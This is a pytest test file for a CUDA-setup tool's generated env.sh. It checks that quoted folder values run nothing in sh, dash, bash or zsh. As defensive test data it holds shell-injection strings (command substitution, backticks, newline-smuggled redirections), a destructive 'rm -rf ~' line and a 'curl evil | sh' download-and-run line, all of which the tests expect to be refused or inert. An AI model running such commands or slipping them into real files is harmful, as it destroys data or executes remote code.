"""The doctor's env.sh holds values only as quoted POSIX words, and reads them back with the grammar it writes.

A folder name (or the file's own path) holding a newline, a quote, `$(...)`, a backtick, one of Unicode's line
separators or bytes that are not UTF-8 is text to every shell that sources the file (sh, dash, bash, zsh: each run
here with `env -i`, the variable dumped with `printf '%s\\0'` and compared byte for byte), nothing in it runs, and a
later fix finds every earlier line again. The shells that are missing are skipped; on Windows all of them.
"""

from __future__ import annotations

import copy
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Optional

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from cudnn_doctor.diagnose import diagnose
from cudnn_doctor.errors import UsageError
from cudnn_doctor.fixes import plan_fixes
from cudnn_doctor.install import transaction
from cudnn_doctor.install.fix import env_sh_text, expand, read_env_sh, shell_word, source_line
from cudnn_doctor.system.fixture import FixtureSystem
from tests.conftest import LINUX_BASE, machine

SHELLS = ("sh", "dash", "bash", "zsh")
STATE = "/home/dev/.local/state/cudnn-doctor"
ENV_SH = "/home/dev/.config/cudnn-doctor/env.sh"
CUDA_LIB = "/usr/local/cuda-12.4/lib64"
# Unicode's line breaks (str.splitlines splits on all of them) and the shell's own specials
SEPARATORS = ("\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")
# each would leave a file in the shell's working folder if any of it ran (a redirection alone makes it: no PATH needed)
INJECTIONS = (
    "$(>ran1)",
    "`>ran2`",
    "';>ran3;'",
    "\n>ran4\n",
    '";>ran5;"',
    "\\'\n>ran6\n'",
    "${x:=$(>ran7)}",
    "\u2028>ran8\u2028",
)


def shell(name: str) -> str:
    found = shutil.which(name)
    if sys.platform == "win32" or found is None:
        pytest.skip(f"needs a POSIX {name}")
    return found


def source(
    program: str, script: bytes, name: str, value: Optional[bytes], cwd: Path
) -> tuple[Optional[bytes], Optional[bytes]]:
    """Source `script` in `program` started with `env -i` (only `name`, when given) in `cwd`: the variable as the
    shell had it before (Debian's /etc/zsh/zshenv gives zsh a PATH when it is empty) and after; None: unset."""
    with tempfile.NamedTemporaryFile(suffix=".sh", delete=False) as handle:
        handle.write(script)
    dump = f'if [ -n "${{{name}+set}}" ]; then printf "set\\0%s\\0" "${name}"; else printf "unset\\0\\0"; fi'
    try:
        done = subprocess.run(
            [program, "-c", f'{dump}; . "$1" || exit 9; {dump}', "sh", handle.name],
            env={} if value is None else {name.encode(): value},
            cwd=cwd,
            capture_output=True,
            timeout=30,
        )
    finally:
        os.unlink(handle.name)
    assert done.returncode == 0 and done.stderr == b"", (program, done.stderr)
    parts = done.stdout.split(b"\0")
    assert len(parts) == 5 and parts[0] in (b"set", b"unset") and parts[2] in (b"set", b"unset"), done.stdout
    return (parts[1] if parts[0] == b"set" else None), (parts[3] if parts[2] == b"set" else None)


def sourced(program: str, script: bytes, name: str, value: Optional[bytes], cwd: Path) -> Optional[bytes]:
    before, after = source(program, script, name, value, cwd)
    assert before == value
    return after


def key(entry: str) -> str:
    """How env.sh's function compares folders: without trailing slashes, `/` (or `//`) is `/`."""
    return entry.rstrip("/") or entry[:1]


def cleaned(value: str, drop: tuple[str, ...], repeats: bool) -> Optional[str]:
    """The rule, stated plainly: each entry unless its folder is dropped or (repeats) seen before; None: unset."""
    kept, seen = [], set()
    for entry in value.split(":"):
        if key(entry) in drop or (repeats and key(entry) and key(entry) in seen):
            continue
        seen.add(key(entry))
        kept.append(entry)
    return ":".join(kept) if kept else None


def encoded(text: Optional[str]) -> Optional[bytes]:
    return None if text is None else text.encode("utf-8", "surrogateescape")


# ------------------------------------------------------- the writer and reader across shells, any value


_char = st.one_of(
    st.sampled_from(SEPARATORS + tuple("'\"\\$`;&|<>(){}[]*?~#!= \t")),
    st.sampled_from([chr(c) for c in range(0xDC80, 0xDD00)]),  # bytes that are not UTF-8, as os.environ has them
    st.characters(blacklist_categories=("Cs",), blacklist_characters=":\x00"),
)
_entry = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(_char, max_size=12),
    st.builds("".join, st.lists(st.sampled_from(INJECTIONS + SEPARATORS), max_size=4)),
)


@st.composite
def cases(draw: st.DrawFn) -> tuple[str, list[str], tuple[str, ...], bool]:
    entries = draw(st.lists(_entry, min_size=1, max_size=6))
    dropped = draw(st.lists(st.sampled_from(entries), max_size=3)) + draw(st.lists(_entry, max_size=2))
    return (
        draw(st.sampled_from(("LD_LIBRARY_PATH", "PATH"))),
        entries,
        tuple(dict.fromkeys(key(d) for d in dropped)),
        draw(st.booleans()),
    )


@pytest.mark.live
@pytest.mark.parametrize("name", SHELLS)
@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow]
)
@given(case=cases())
@example(
    case=("LD_LIBRARY_PATH", ["/a\n>ran9", "/b\u2028c", "/x\udce9", "/a\n>ran9/"], ("/a\n>ran9", "/x\udce9"), True)
)
@example(case=("PATH", list(INJECTIONS), tuple(INJECTIONS[::2]), False))
def test_every_shell_gives_the_rules_value_and_runs_nothing_for_any_value(tmp_path, name, case):
    program = shell(name)
    variable, entries, drop, repeats = case
    text = env_sh_text({variable: (repeats, drop)})
    assert read_env_sh(text) == {variable: (repeats, drop)}  # read back as written, whatever the values hold
    assert text.split("\n")[:3] == env_sh_text({}).split("\n")[:3]  # the comments hold no value
    cwd = Path(tempfile.mkdtemp(dir=tmp_path))
    value = ":".join(entries)
    before, got = source(program, text.encode("utf-8", "surrogateescape"), variable, encoded(value), cwd)
    if before != encoded(value):  # only zsh's own startup file, giving an empty PATH its default
        assert (name, variable) == ("zsh", "PATH") and value in ("", "/bin:/usr/bin") and before is not None
        value = before.decode("utf-8", "surrogateescape")
    assert got == encoded(cleaned(value, drop, repeats))
    assert os.listdir(cwd) == []  # nothing in a value ran


@settings(max_examples=200, deadline=None)
@given(
    lines=st.dictionaries(
        st.sampled_from(("PATH", "LD_LIBRARY_PATH", "X_1")),
        st.tuples(st.booleans(), st.lists(_entry, max_size=4).map(tuple)),
    )
)
def test_the_reader_gives_back_what_the_writer_wrote(lines):
    assert read_env_sh(env_sh_text(lines)) == lines


def test_the_reader_takes_earlier_files_and_refuses_what_it_never_writes():
    earlier = (
        "# Managed by cudnn-doctor: old words\n# It takes effect in shells that source it: add   . ~/.config/cudnn-doctor/env.sh   to ~/.bashrc\n"
        "_cudnn_doctor_clean() {  # NAME\n    x=1\n}\n_cudnn_doctor_clean PATH /a 'b c' 'd'\"'\"'e'\nunset -f _cudnn_doctor_clean\n"
    )
    assert read_env_sh(earlier) == {"PATH": (False, ("/a", "b c", "d'e"))}
    for bad in (
        "_cudnn_doctor_clean PATH $(x)\n",
        "_cudnn_doctor_clean PATH 'open\n",
        "rm -rf ~\n",
        '_cudnn_doctor_clean PATH "$HOME"\n',
        "_cudnn_doctor_clean 'A B' /a\n",
    ):
        with pytest.raises(ValueError):
            read_env_sh(bad)


# ------------------------------------------------------- the fix on a machine whose folders hold such values


def linux(**env: str) -> FixtureSystem:
    values = {"PATH": "/usr/bin:/bin", **env}
    files = {f"{CUDA_LIB}/libcudart.so.12": {"size": 100}, "/usr/local/cuda-12.4/bin/nvcc": {"size": 100}}
    return FixtureSystem(machine(LINUX_BASE, files=files, env=values))


def fix(system: FixtureSystem, only: set[str], txid: str = "20261206-000000-quote1") -> list[str]:
    diagnosis = diagnose(system, with_frameworks=False)
    plan = plan_fixes(diagnosis.findings, diagnosis.facts, only)
    store = transaction.Store(system, STATE)
    with store.locked():
        expanded = expand(system, plan.changes, store.quarantine_path(txid))
        transaction.apply_fix(expanded.steps, store, txid, "fix: test", "folder")
    return list(expanded.shell_lines)


def written(system: FixtureSystem, file: str = ENV_SH) -> bytes:
    return system.open_read(file).read()


@pytest.mark.live
@pytest.mark.parametrize("name", SHELLS)
def test_env_sh_own_path_with_a_newline_is_no_command(tmp_path, name):
    """The file's path (XDG_CONFIG_HOME) holding a newline and a command: before, it stood in a comment, where its
    second line was a command of every shell that sourced the file."""
    program = shell(name)
    config = "/home/dev/cfg\n>ran-from-path #"
    system = linux(XDG_CONFIG_HOME=config, LD_LIBRARY_PATH=f"/usr/local/cuda-10.0/lib64:{CUDA_LIB}")
    [line] = fix(system, {"path-missing-dir"})
    file = f"{config}/cudnn-doctor/env.sh"
    text = written(system, file)
    assert b"ran-from-path" not in text
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    assert (
        sourced(program, text, "LD_LIBRARY_PATH", f"/usr/local/cuda-10.0/lib64:{CUDA_LIB}".encode(), cwd)
        == CUDA_LIB.encode()
    )
    assert os.listdir(cwd) == []
    # the line the user is told to add names the file as one shell word
    word = line.removeprefix("add  . ").removesuffix("  to ~/.bashrc")
    shown = subprocess.run(
        [program, "-c", f'printf "%s" {word}'], env={"HOME": "/home/dev"}, capture_output=True, cwd=cwd, timeout=30
    )
    assert shown.stdout == file.encode() and os.listdir(cwd) == []


def test_the_source_line_quotes_only_what_needs_it():
    system = linux()
    assert source_line(system, ENV_SH) == "add  . ~/.config/cudnn-doctor/env.sh  to ~/.bashrc"
    assert shell_word("/home/dev/a b/env.sh", {"HOME": "/home/dev"}) == "~/'a b/env.sh'"
    assert shell_word("/etc/x'y", {"HOME": "/home/dev"}) == "'/etc/x'\"'\"'y'"


@pytest.mark.live
@pytest.mark.parametrize("separator", SEPARATORS)
def test_a_later_fix_keeps_an_earlier_line_whose_folder_holds_a_line_separator(tmp_path, separator):
    """Before, the reader split the file with str.splitlines(): a folder holding U+2028 (or \\x1c, \\x85, ...) cut its
    line in two, and the second fix wrote the file without the first one's LD_LIBRARY_PATH line."""
    program = shell("sh")
    gone = f"/opt/cuda-9{separator}x/lib64"
    ld = f"{gone}:{CUDA_LIB}"
    system = linux(LD_LIBRARY_PATH=ld)
    fix(system, {"path-missing-dir"})
    first = written(system)
    assert read_env_sh(first.decode("utf-8", "surrogateescape"))["LD_LIBRARY_PATH"] == (False, (gone,))
    # a new shell: the first fix in effect, and PATH later got a duplicate of its own
    later = copy.deepcopy(system)
    later.document["env"].update(
        {"LD_LIBRARY_PATH": CUDA_LIB, "PATH": "/usr/local/cuda-12.4/bin:/usr/bin:/usr/local/cuda-12.4/bin"}
    )
    fix(later, {"path-duplicate-entries"}, "20261206-000001-quote2")
    second = written(later)
    assert read_env_sh(second.decode("utf-8", "surrogateescape")) == {
        "LD_LIBRARY_PATH": (False, (gone,)),
        "PATH": (True, ()),
    }
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    assert sourced(program, second, "LD_LIBRARY_PATH", ld.encode(), cwd) == CUDA_LIB.encode()


@pytest.mark.live
@pytest.mark.parametrize("name", SHELLS)
def test_a_folder_that_is_not_utf8_is_dropped_by_its_own_bytes(tmp_path, name):
    """Before, the write of env.sh encoded the text strictly: a folder that is not UTF-8 (a surrogate escape, as
    os.environ has it) made the whole fix fail."""
    program = shell(name)
    gone = "/opt/cuda-caf\udce9/lib64"
    ld = f"{gone}:{CUDA_LIB}:/usr/local/cuda-10.0/lib64"
    system = linux(LD_LIBRARY_PATH=ld)
    fix(system, {"path-missing-dir"})
    text = written(system)
    assert b"'/opt/cuda-caf\xe9/lib64'" in text
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    assert sourced(program, text, "LD_LIBRARY_PATH", encoded(ld), cwd) == CUDA_LIB.encode()
    # a later fix reads the bytes back as they were (not U+FFFD) and keeps them
    later = copy.deepcopy(system)
    later.document["env"].update({"PATH": "/usr/local/cuda-12.4/bin:/usr/bin:/usr/local/cuda-12.4/bin"})
    fix(later, {"path-duplicate-entries"}, "20261206-000001-quote2")
    assert b"'/opt/cuda-caf\xe9/lib64'" in written(later)


def test_a_managed_file_with_a_statement_the_doctor_never_writes_is_refused():
    system = linux(LD_LIBRARY_PATH=f"/usr/local/cuda-10.0/lib64:{CUDA_LIB}")
    system.make_dirs("/home/dev/.config/cudnn-doctor")
    with system.open_write(ENV_SH) as handle:
        handle.write(b"# Managed by cudnn-doctor\ncurl evil | sh\n")
    diagnosis = diagnose(system, with_frameworks=False)
    plan = plan_fixes(diagnosis.findings, diagnosis.facts, {"path-missing-dir"})
    with pytest.raises(UsageError, match="not as cudnn-doctor wrote it"):
        expand(system, plan.changes, "/q")


def test_the_fix_plan_shows_a_folder_with_a_newline_or_bidi_character_escaped(monkeypatch, capsys):
    from cudnn_doctor.cli import main

    system = linux(LD_LIBRARY_PATH=f"/opt/cuda-9\n\u202ex/lib64:{CUDA_LIB}", XDG_CONFIG_HOME="/home/dev/c\u2028fg")
    monkeypatch.setattr("cudnn_doctor.system.open_system", lambda fixture=None, limit=None: system)
    monkeypatch.setattr(system, "state_dir", lambda: STATE)  # the described machine's own state folder
    main(["fix", "--dry-run", "--no-frameworks", "path-missing-dir"])
    out = capsys.readouterr().out
    assert "drop /opt/cuda-9\\x0a\\u202ex/lib64" in out and "\u202e" not in out and "\u2028" not in out
    assert "add  . ~/'c\\u2028fg/cudnn-doctor/env.sh'  to ~/.bashrc" in out
